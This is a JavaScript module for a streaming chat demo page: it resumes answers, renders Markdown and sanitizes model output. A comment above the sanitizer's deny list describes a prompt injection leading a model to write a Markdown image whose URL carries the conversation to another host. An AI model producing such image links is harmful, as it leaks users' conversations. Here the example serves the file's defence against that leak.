// @ts-check
// The demo chat page: a conversation, its latest answer resumable across reloads and
// reconnects.
//
// Each prompt and the answer it got stay on the page as a turn; a new prompt sends the whole
// conversation upstream (conversation.js makes the messages). The whole answer is shown,
// every choice of it: the model's thinking (a collapsible "Thinking" section), the text as
// Markdown, a refusal (styled as one), and a card per tool call whose arguments grow as they
// stream (raw while partial, pretty JSON once they parse). The text is the model's, so
// untrusted: marked turns it into HTML, DOMPurify (web/vendor/) takes out what could run.
//
// What it needs to resume lives in sessionStorage. Under SAVED the latest turn: its prompt,
// the stream id, its read token, the offset of the last event shown and the answer up to that
// offset (the reader's `answer`, plain JSON), so a reload shows the answer at once and reads
// only what came after. The state is saved at most every SAVE_EVERY_MS and when the page is
// hidden; offset and answer are always saved together, so a reload never counts an event
// twice. Should the answer not fit in sessionStorage, only the stream is kept and a reload
// reads it again from its start. Under TURNS the turns before it, each its prompt and its
// finished answer: written when a new prompt's stream is made (then the latest turn joins
// them), so the saves while an answer streams don't carry the whole conversation; should they
// not fit, the oldest are dropped.
import { StreamReader, createStream, States } from "/web/tokenrelay.js";
import { Marked } from "/web/vendor/marked/marked.esm.js";
import { chatMessages, parseTurns, storeTurns } from "/web/conversation.js";

/** @typedef {import("/web/tokenrelay.js").Answer} Answer */
/** @typedef {import("/web/tokenrelay.js").Choice} Choice */
/** @typedef {import("/web/tokenrelay.js").ToolCall} ToolCall */
/** @typedef {import("/web/conversation.js").Turn} Turn */

const SAVED = "tokenrelay.demo";
const TURNS = "tokenrelay.demo.turns";
const SAVE_EVERY_MS = 250;
const $ = (/** @type {string} */ id) => /** @type {HTMLElement} */ (document.getElementById(id));
const form = /** @type {HTMLFormElement} */ ($("ask"));
const prompt = /** @type {HTMLTextAreaElement} */ ($("prompt"));
const model = /** @type {HTMLInputElement} */ ($("model"));
const preset = /** @type {HTMLSelectElement} */ ($("preset"));
const choicesN = /** @type {HTMLInputElement} */ ($("n"));
const send = /** @type {HTMLButtonElement} */ ($("send"));
const stop = /** @type {HTMLButtonElement} */ ($("stop"));
const newChat = /** @type {HTMLButtonElement} */ ($("new-chat"));
const conversation = $("conversation");
const latestTurn = $("latest");
const question = $("question");
const placeholder = /** @type {HTMLElement} */ ($("answer").querySelector(".placeholder"));
const state = $("state");
const share = /** @type {HTMLAnchorElement} */ ($("share"));
const offsetLabel = $("offset");
const choiceTemplate = /** @type {HTMLTemplateElement} */ ($("choice-template"));
const toolCallTemplate = /** @type {HTMLTemplateElement} */ ($("tool-call-template"));
const turnTemplate = /** @type {HTMLTemplateElement} */ ($("turn-template"));

/** The mock model's options for each preset (and the number of choices to ask for). */
const PRESETS = {
  text: { model: "mock?tokens=60&rate=30", n: 1 },
  reasoning: { model: "mock?reasoning=40&tokens=40&rate=30", n: 1 },
  tools: { model: "mock?reasoning=20&tools=2&rate=40", n: 1 },
  refusal: { model: "mock?refusal=1&rate=20", n: 1 },
  choices: { model: "mock?tokens=30&rate=30", n: 3 },
};

const FINISHED = {
  length: "Cut short: the token limit was reached.",
  content_filter: "Cut short by the content filter.",
};

/** @type {StreamReader | null} */
let reader = null;
/** The turns before the latest one. @type {Turn[]} */
let turns = [];
/** The latest turn's prompt; null when the page shows no turn of this conversation (none yet, or a shared link's answer). @type {string | null} */
let latestPrompt = null;

/**
 * @typedef {{streamId: string, token: string, offset: string | null, answer: Answer | null,
 *            prompt: string, ended: boolean}} Saved
 */

/** @returns {Saved | null} */
function loadSaved() {
  try {
    /** @type {any} */ const saved = JSON.parse(sessionStorage.getItem(SAVED) || "null");
    if (!saved?.streamId || !saved?.token) return null;
    // without the answer (an older page, or one too big to keep), read again from the start
    if (!saved.answer) return { ...saved, offset: null, answer: null };
    return saved;
  } catch {
    return null;
  }
}

/** @returns {Turn[]} */
function loadTurns() {
  try {
    return parseTurns(sessionStorage.getItem(TURNS));
  } catch {
    return [];
  }
}

/** @type {Saved | null} */ let unsaved = null;
/** @type {ReturnType<typeof setTimeout> | undefined} */ let saveTimer;

/** Saves now, or soon (at most every SAVE_EVERY_MS). @param {Saved} saved @param {boolean} [now] */
function save(saved, now = false) {
  unsaved = saved;
  if (now) flush();
  else saveTimer ??= setTimeout(flush, SAVE_EVERY_MS);
}

function flush() {
  clearTimeout(saveTimer);
  saveTimer = undefined;
  if (!unsaved) return;
  const saved = unsaved;
  unsaved = null;
  try {
    sessionStorage.setItem(SAVED, JSON.stringify(saved));
  } catch { // over the quota: keep the stream, a reload reads it from its start
    try { sessionStorage.setItem(SAVED, JSON.stringify({ ...saved, offset: null, answer: null })); } catch { /* nothing kept */ }
  }
}
addEventListener("pagehide", flush);

/** @param {string} name @param {string} label */
function showState(name, label) {
  state.dataset.state = name;
  state.textContent = label;
}

const LABELS = {
  [States.CONNECTING]: "Connecting…",
  [States.STREAMING]: "Streaming",
  [States.RECONNECTING]: "Reconnecting…",
  [States.DONE]: "Done",
  [States.FAILED]: "Failed",
};

// ---------------------------------------------------------------------------------------------
// Showing a choice

/** @param {string} text */
const words = (text) => (text.match(/\S+/g) ?? []).length;

/** A box that was scrolled to its bottom stays there as it grows. @param {Element} box @param {() => void} change */
function keepBottom(box, change) {
  const stick = box.scrollHeight - box.scrollTop - box.clientHeight < 24;
  change();
  if (stick) box.scrollTop = box.scrollHeight;
}

/** The page follows the conversation as it grows, while the reader is at its bottom. @param {() => void} change */
const keepPageBottom = (change) => keepBottom(document.scrollingElement ?? document.documentElement, change);

// Markdown as chat models write it: GitHub's flavour, a newline is a line break.
const markdown = new Marked({ gfm: true, breaks: true });
/** web/vendor/dompurify/purify.min.js, a classic script that index.html runs before this module. */
const DOMPurify = /** @type {any} */ (globalThis).DOMPurify;
// Links in an answer open in a tab of their own, and tell the other site nothing.
DOMPurify.addHook("afterSanitizeAttributes", (/** @type {Element} */ node) => {
  if (node.tagName === "A") {
    node.setAttribute("target", "_blank");
    node.setAttribute("rel", "noopener noreferrer");
  }
});

/**
 * What an answer may not contain even when harmless to run: anything that makes the page
 * fetch a URL the model chose (an image, a video, a style's `url(...)`). A prompt injection
 * could otherwise have the model write `![](https://elsewhere/?q=<the conversation>)`.
 */
const NOTHING_FETCHED = {
  FORBID_TAGS: ["img", "picture", "source", "video", "audio", "track"],
  FORBID_ATTR: ["style", "srcset", "poster", "background"],
};

/**
 * The model's Markdown as HTML that is safe to show: marked keeps any HTML the text has,
 * DOMPurify then removes scripts, event handlers, `javascript:` URLs and the like, and
 * whatever would fetch a URL (`NOTHING_FETCHED`).
 * @param {string} text
 * @returns {string}
 */
function renderMarkdown(text) {
  if (!text) return "";
  const html = /** @type {string} */ (markdown.parse(text, { async: false }));
  return DOMPurify.sanitize(html, { USE_PROFILES: { html: true }, ...NOTHING_FETCHED });
}

/**
 * A tool call's arguments as shown: pretty JSON once they parse, else the raw text so far.
 * @param {string} raw
 * @returns {{ text: string, complete: boolean }}
 */
function argumentsView(raw) {
  try {
    const parsed = JSON.parse(raw);
    if (parsed !== null && typeof parsed === "object") return { text: JSON.stringify(parsed, null, 2), complete: true };
  } catch { /* partial: shown as it is */ }
  return { text: raw, complete: false };
}

/** One tool call's card. */
class ToolCallCard {
  /** @type {string | null} */ #raw = null;
  #closed = false;

  constructor() {
    this.node = /** @type {HTMLLIElement} */ (/** @type {DocumentFragment} */ (toolCallTemplate.content.cloneNode(true)).firstElementChild);
    this.name = /** @type {HTMLElement} */ (this.node.querySelector(".tool-name"));
    this.id = /** @type {HTMLElement} */ (this.node.querySelector(".tool-id"));
    this.status = /** @type {HTMLElement} */ (this.node.querySelector(".tool-status"));
    this.args = /** @type {HTMLElement} */ (this.node.querySelector(".tool-args"));
  }

  /** @param {ToolCall} call @param {boolean} closed no more fragments will come (a later call began, or the choice ended) */
  show(call, closed) {
    this.node.dataset.index = String(call.index);
    this.name.textContent = call.name || "…";
    this.id.textContent = call.id ?? "";
    if (call.arguments === this.#raw && closed === this.#closed) return;
    this.#raw = call.arguments;
    this.#closed = closed;
    const { text, complete } = argumentsView(call.arguments);
    this.node.dataset.complete = String(complete);
    this.args.textContent = text;
    this.status.textContent = complete ? "" : closed ? "arguments incomplete (not whole JSON)" : "writing arguments…";
  }
}

/** Where one choice is shown: its thinking, text, refusal, tool calls and finish reason. */
class ChoiceView {
  /** @type {Choice | null} */ #shown = null;
  #ended = false;
  /** whether the reader opened or closed the Thinking section: then we leave it alone */
  #touched = false;
  /** @type {ToolCallCard[]} */ #cards = [];
  /** the text to show, and the text whose Markdown is shown (rendered once per frame at most) */
  #text = "";
  #rendered = "";
  #frame = 0;

  /** @param {HTMLElement} root */
  constructor(root) {
    this.root = root;
    const part = (/** @type {string} */ selector) => /** @type {HTMLElement} */ (root.querySelector(selector));
    this.label = part(".choice-label");
    this.thinking = /** @type {HTMLDetailsElement} */ (part(".thinking"));
    this.thinkingSize = part(".thinking-size");
    this.reasoning = part(".reasoning");
    this.text = part(".answer");
    this.refusal = part(".refusal");
    this.refusalText = part(".refusal-text");
    this.toolCalls = part(".tool-calls");
    this.finish = part(".finish");
    // a click on the summary (keyboard activation clicks too) is the reader's choice
    part("summary").addEventListener("click", () => { this.#touched = true; });
  }

  /** Empties it (a new stream). */
  clear() {
    this.#shown = null;
    this.#ended = false;
    this.#touched = false;
    this.#cards = [];
    this.thinking.hidden = true;
    this.thinking.open = false;
    this.reasoning.textContent = "";
    cancelAnimationFrame(this.#frame);
    this.#frame = 0;
    this.#text = this.#rendered = "";
    this.text.textContent = "";
    this.refusal.hidden = true;
    this.toolCalls.replaceChildren();
    this.toolCalls.hidden = true;
    this.finish.hidden = true;
  }

  /** @param {Choice} choice @param {boolean} ended the stream has ended */
  show(choice, ended) {
    if (choice === this.#shown && ended === this.#ended) return; // snapshots are new only when changed
    this.#shown = choice;
    this.#ended = ended;
    const finished = ended || choice.finishReason != null;
    const answering = choice.text !== "" || choice.refusal != null || choice.toolCalls.length > 0;

    // Thinking: open while the model thinks, collapsed once the answer starts or the choice
    // ends (unless the reader has opened or closed it), one click away.
    const thinking = choice.reasoning !== "";
    this.thinking.hidden = !thinking;
    if (thinking) {
      keepBottom(this.reasoning, () => { if (this.reasoning.textContent !== choice.reasoning) this.reasoning.textContent = choice.reasoning; });
      const live = !answering && !finished;
      this.thinking.dataset.live = String(live);
      this.thinkingSize.textContent = live ? "…" : `· ${words(choice.reasoning)} words`;
      if (!this.#touched) this.thinking.open = live;
    }

    this.#showText(choice.text, finished);

    this.refusal.hidden = choice.refusal == null;
    if (choice.refusal != null && this.refusalText.textContent !== choice.refusal) this.refusalText.textContent = choice.refusal;

    const calls = choice.toolCalls;
    this.toolCalls.hidden = calls.length === 0;
    calls.forEach((call, i) => {
      let card = this.#cards[i];
      if (!card) {
        card = this.#cards[i] = new ToolCallCard();
        this.toolCalls.append(card.node);
      }
      card.show(call, finished || i < calls.length - 1);
    });

    const note = choice.finishReason ? FINISHED[/** @type {keyof FINISHED} */ (choice.finishReason)] : undefined;
    this.finish.hidden = !note;
    this.finish.textContent = note ?? "";
  }

  /**
   * The text's Markdown is rendered whole, each time: at most once a frame while it grows,
   * at once when it is finished (so the page shows the exact answer when it says Done).
   * @param {string} text @param {boolean} now
   */
  #showText(text, now) {
    this.#text = text;
    if (now) {
      cancelAnimationFrame(this.#frame);
      this.#frame = 0;
      this.#render();
    } else {
      this.#frame ||= requestAnimationFrame(() => {
        this.#frame = 0;
        this.#render();
      });
    }
  }

  #render() {
    if (this.#text === this.#rendered) return;
    const text = (this.#rendered = this.#text);
    keepPageBottom(() => { this.text.innerHTML = renderMarkdown(text); });
  }
}

/** Where one answer is shown: a part per choice, made as each appears. */
class AnswerView {
  /** @type {Map<number, ChoiceView>} */ views = new Map();

  /** @param {HTMLElement} box @param {HTMLElement} [first] choice 0's part, when the page has it */
  constructor(box, first) {
    this.box = box;
    if (first) this.views.set(0, new ChoiceView(first));
  }

  /** @param {Answer} answer @param {boolean} ended */
  show(answer, ended) {
    for (const choice of answer.choices) {
      let view = this.views.get(choice.index);
      if (!view) {
        const root = /** @type {HTMLElement} */ (/** @type {DocumentFragment} */ (choiceTemplate.content.cloneNode(true)).firstElementChild);
        root.dataset.choice = String(choice.index);
        root.setAttribute("aria-label", `Choice ${choice.index}`);
        const label = /** @type {HTMLElement} */ (root.querySelector(".choice-label"));
        label.textContent = `Choice ${choice.index}`;
        const after = [...this.views.keys()].filter((index) => index > choice.index).sort((a, b) => a - b)[0];
        this.box.insertBefore(root, after === undefined ? null : /** @type {ChoiceView} */ (this.views.get(after)).root);
        view = new ChoiceView(root);
        this.views.set(choice.index, view);
      }
      view.show(choice, ended);
    }
    const many = this.views.size > 1;
    this.box.classList.toggle("many", many);
    const first = this.views.get(0);
    if (first) first.label.hidden = !many;
  }

  /** Empties it (a new stream): choice 0's part stays, the others go. */
  clear() {
    for (const [index, view] of this.views) {
      if (index === 0) view.clear();
      else {
        view.root.remove();
        this.views.delete(index);
      }
    }
    this.box.classList.remove("many");
    const first = this.views.get(0);
    if (first) first.label.hidden = true;
  }
}

/** The latest turn's answer, in the page. */
const latest = new AnswerView($("choices"), $("choice-0"));

/** Shows a finished turn after the others, before the latest. @param {Turn} turn */
function showEarlierTurn(turn) {
  const node = /** @type {HTMLElement} */ (/** @type {DocumentFragment} */ (turnTemplate.content.cloneNode(true)).firstElementChild);
  const part = (/** @type {string} */ selector) => /** @type {HTMLElement} */ (node.querySelector(selector));
  part(".question").textContent = turn.prompt;
  const view = new AnswerView(part(".choices"));
  if (turn.answer) view.show(turn.answer, true);
  part(".no-answer").hidden = view.views.size > 0;
  keepPageBottom(() => conversation.insertBefore(node, latestTurn));
}

/** Shows the latest turn's prompt ("": none, as for a shared link's answer). @param {string} text */
function showQuestion(text) {
  question.textContent = text;
  question.hidden = !text;
}

// ---------------------------------------------------------------------------------------------
// Following a stream

/**
 * Follow a stream from `saved.offset`, continuing `saved.answer` (what came before it).
 * @param {Saved} saved
 * @param {boolean} remember keep progress in sessionStorage (not for a shared view)
 */
function follow(saved, remember) {
  reader?.close();
  latest.clear();
  showQuestion(saved.prompt);
  latestPrompt = remember ? saved.prompt : null;
  share.href = `/?stream=${encodeURIComponent(saved.streamId)}&token=${encodeURIComponent(saved.token)}`;
  share.hidden = false;
  const ended = () => current.state === States.DONE || current.state === States.FAILED;
  const current = new StreamReader({
    streamId: saved.streamId,
    token: saved.token,
    offset: saved.offset,
    answer: saved.answer,
    onState(name, detail) {
      if (name === States.RECONNECTING) {
        showState(name, `Reconnecting… (attempt ${(detail?.attempt ?? 0) + 1})`);
      } else if (name === States.FAILED) {
        showState(name, `Failed: ${current.error?.code ?? "error"}`);
      } else if (name === States.DONE) {
        const stopped = current.finishReason === "cancelled";
        showState(stopped ? "stopped" : name, stopped ? "Stopped" : LABELS[name]);
      } else {
        showState(name, LABELS[name] ?? name);
      }
      const busy = name === States.CONNECTING || name === States.STREAMING || name === States.RECONNECTING;
      stop.disabled = !busy;
      send.disabled = busy;
      newChat.disabled = busy;
      if (ended()) showLatest(current.answer, true); // collapse the thinking, close the tool calls
    },
    onAnswer(answer) {
      showLatest(answer, ended());
    },
    onEvent(event) {
      offsetLabel.textContent = `offset ${event.offset}`;
      if (remember) {
        const terminal = event.type === "done" || event.type === "error";
        save({ ...saved, offset: event.offset, answer: current.answer, ended: terminal }, terminal);
      }
    },
  });
  reader = current;
  showLatest(current.answer, false);
  current.start().catch(() => {}); // failures are shown through onState
}

/** @param {Answer} answer @param {boolean} ended */
const showLatest = (answer, ended) => keepPageBottom(() => latest.show(answer, ended));

form.addEventListener("submit", async (submitted) => {
  submitted.preventDefault();
  const text = prompt.value.trim();
  if (!text) return;
  send.disabled = newChat.disabled = true;
  showState(States.CONNECTING, "Starting…");
  // The latest turn, finished, joins the earlier ones once the new prompt's stream is made.
  const earlier = latestPrompt !== null && reader ? [...turns, { prompt: latestPrompt, answer: reader.answer }] : turns;
  let created;
  try {
    const n = Math.trunc(Number(choicesN.value)) || 1;
    created = await createStream({
      body: {
        model: model.value || "mock",
        messages: chatMessages(earlier, text),
        ...(n > 1 ? { n } : {}), // n is sent only when asked for: not every upstream takes it
      },
    });
  } catch (error) {
    send.disabled = newChat.disabled = false;
    const code = /** @type {{code?: string}} */ (error).code ?? "network_error";
    showState("failed", `Failed: ${code}`);
    return;
  }
  for (const turn of earlier.slice(turns.length)) showEarlierTurn(turn);
  turns = earlier;
  storeTurns(turns, (json) => sessionStorage.setItem(TURNS, json));
  prompt.value = "";
  // from a shared link's page this is a conversation of its own: a reload must show it
  if (location.search) history.replaceState(null, "", location.pathname);
  /** @type {Saved} */
  const saved = { streamId: created.id, token: created.read_token, offset: null, answer: null, prompt: text, ended: false };
  save(saved, true);
  follow(saved, true);
});

newChat.addEventListener("click", () => {
  reader?.close();
  reader = null;
  clearTimeout(saveTimer);
  saveTimer = undefined;
  unsaved = null;
  try {
    sessionStorage.removeItem(SAVED);
    sessionStorage.removeItem(TURNS);
  } catch { /* no storage: nothing kept */ }
  turns = [];
  latestPrompt = null;
  for (const node of conversation.querySelectorAll(".turn.earlier")) node.remove();
  latest.clear();
  $("answer").replaceChildren(placeholder);
  showQuestion("");
  share.hidden = true;
  offsetLabel.textContent = "";
  showState("idle", "Ready");
  stop.disabled = true;
  send.disabled = false;
  if (location.search) history.replaceState(null, "", location.pathname);
  prompt.focus();
});

stop.addEventListener("click", () => {
  stop.disabled = true;
  showState("stopping", "Stopping…");
  reader?.stop().catch((error) => {
    // the cancel was refused (an expired token?) or did not get through: still running
    showState("failed", `Could not stop: ${error.code ?? "network_error"}`);
    stop.disabled = false;
  });
});

prompt.addEventListener("keydown", (event) => {
  if (event.key === "Enter" && (event.ctrlKey || event.metaKey)) form.requestSubmit();
});

// Presets of the mock model's options; only offered when the page's model is the mock.
/** @returns {string} */
function matchingPreset() {
  const n = Math.trunc(Number(choicesN.value)) || 1;
  const found = Object.entries(PRESETS).find(([, p]) => p.model === model.value && p.n === n);
  return found ? found[0] : "custom";
}
if (model.defaultValue.startsWith("mock")) {
  preset.value = matchingPreset();
  preset.addEventListener("change", () => {
    const chosen = PRESETS[/** @type {keyof PRESETS} */ (preset.value)];
    if (!chosen) return;
    model.value = chosen.model;
    choicesN.value = String(chosen.n);
  });
  model.addEventListener("input", () => { preset.value = matchingPreset(); });
  choicesN.addEventListener("input", () => { preset.value = matchingPreset(); });
} else {
  preset.hidden = true;
  $("model-help").hidden = true;
}

// A shared link (?stream=&token=) follows that stream from its start; otherwise show this
// tab's conversation again, its latest turn resumed where it was before a reload.
const params = new URLSearchParams(location.search);
const sharedId = params.get("stream");
const sharedToken = params.get("token");
if (sharedId && sharedToken) {
  follow({ streamId: sharedId, token: sharedToken, offset: null, answer: null, prompt: "", ended: false }, false);
} else {
  turns = loadTurns();
  for (const turn of turns) showEarlierTurn(turn);
  const saved = loadSaved();
  if (saved) follow(saved, true);
}
